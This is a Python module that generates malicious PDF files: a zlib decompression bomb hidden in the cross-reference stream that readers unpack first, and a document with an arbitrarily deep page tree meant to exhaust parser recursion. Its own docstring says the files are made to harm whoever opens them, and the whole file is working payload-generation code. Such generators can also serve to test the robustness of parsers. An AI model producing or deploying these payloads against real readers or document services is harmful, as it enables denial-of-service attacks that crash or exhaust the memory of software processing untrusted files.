"""PDFs that are made to harm whoever opens them."""

import zlib

MEBIBYTE = 1024 * 1024


def bomb(mebibytes: int) -> bytes:
    """A zlib stream of some kilobytes that unpacks to so many zeros, made without ever holding them."""
    packer = zlib.compressobj()
    begin = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    size = mebibytes * MEBIBYTE
    check = (size % 65521) << 16 | 1  # Adler-32 of zeros
    return begin + block * mebibytes + b"\x03\x00" + check.to_bytes(4, "big")


def with_table(packed: bytes) -> bytes:
    """A PDF whose cross-reference stream, which every reader unpacks first, holds `packed`."""
    head = b"%PDF-1.7\n"
    told = b"<</Type /XRef /Size 3 /W [1 4 2] /Root 2 0 R /Filter /FlateDecode /Length %d>>" % len(packed)
    table = b"1 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (told, packed)
    catalog = b"2 0 obj\n<</Type /Catalog>>\nendobj\n"
    return head + table + catalog + b"startxref\n%d\n%%%%EOF\n" % len(head)


def with_deep_pages(depth: int) -> bytes:
    """A PDF whose one page is so deep in its tree."""
    objects = [b"<</Type /Catalog /Pages 2 0 R>>"]
    for number in range(2, depth + 2):
        parent = b"" if number == 2 else b"/Parent %d 0 R" % (number - 1)
        objects.append(b"<</Type /Pages /Count 1 /Kids [%d 0 R] %s>>" % (number + 1, parent))
    objects.append(b"<</Type /Page /Parent %d 0 R /MediaBox [0 0 100 100]>>" % (depth + 1))
    written, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(written) + b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
